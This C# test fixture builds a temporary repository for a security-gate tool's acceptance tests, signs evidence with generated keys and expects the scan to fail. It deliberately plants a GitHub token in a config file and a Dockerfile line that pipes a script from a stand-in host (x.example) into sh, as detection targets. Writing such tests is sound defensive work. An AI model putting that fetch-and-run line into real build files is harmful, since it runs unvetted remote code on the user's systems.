using Support;

namespace Acceptance.Tests.Evidence;

/// <summary>A repository with keys and a planted secret, on which the real program has run once, with the key in the environment.</summary>
public sealed class SignedRepository : IDisposable
{
    private readonly TempRepository repository = new TempRepository()
        .Write("config/app.env", $"TOKEN={Planted.GitHubToken}\n")
        .Write("Dockerfile", "FROM node\nRUN curl -s https://x.example/i.sh | sh\n");

    public SignedRepository()
    {
        var made = GatesProcess.Run(Path, ["keys", "new"]);
        repository.Commit();
        PrivateKey = File.ReadAllText(Directory.GetFiles(System.IO.Path.Combine(Path, ".gates/keys"), "evidence-*").Single());
        Output = GatesProcess.Run(Path, ["run"], new Dictionary<string, string>(StringComparer.Ordinal) { ["GATES_EVIDENCE_KEY"] = PrivateKey });
        if (made.ExitCode != 0 || Output.ExitCode != 1)
        {
            throw new InvalidOperationException($"{made}\n{Output}");
        }
    }

    public string Path => repository.Path;

    public string PrivateKey { get; }

    /// <value>What the run said.</value>
    public GatesOutput Output { get; }

    /// <value>The file of the evidence key.</value>
    public string PublicKey => Directory.GetFiles(System.IO.Path.Combine(Path, ".github/gates-keys"), "evidence-*").Single();

    public IReadOnlyList<string> Bundles => [.. Directory.GetFiles(At("bundles")).Order(StringComparer.Ordinal)];

    /// <summary>A file that the run left.</summary>
    public string At(string name) => System.IO.Path.Combine(Path, ".gates/out", name);

    public void Dispose() => repository.Dispose();
}
